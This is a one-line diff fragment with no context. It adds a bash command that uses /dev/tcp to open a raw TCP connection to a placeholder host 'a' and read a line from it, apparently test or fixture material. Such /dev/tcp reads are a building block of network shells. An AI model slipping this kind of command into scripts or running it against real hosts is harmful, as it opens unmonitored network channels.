@@ -1,0 +1,1 @@
+read -r l < /dev/tcp/a/1
